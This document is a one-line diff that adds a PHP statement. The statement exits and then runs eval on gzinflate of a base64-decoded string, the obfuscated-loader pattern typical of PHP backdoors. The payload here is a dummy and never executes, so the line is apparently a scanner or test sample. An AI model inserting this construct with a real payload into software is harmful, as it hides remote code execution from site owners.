@@ -1,0 +1,1 @@
+<?php exit; eval(gzinflate(base64_decode("AAAA")));
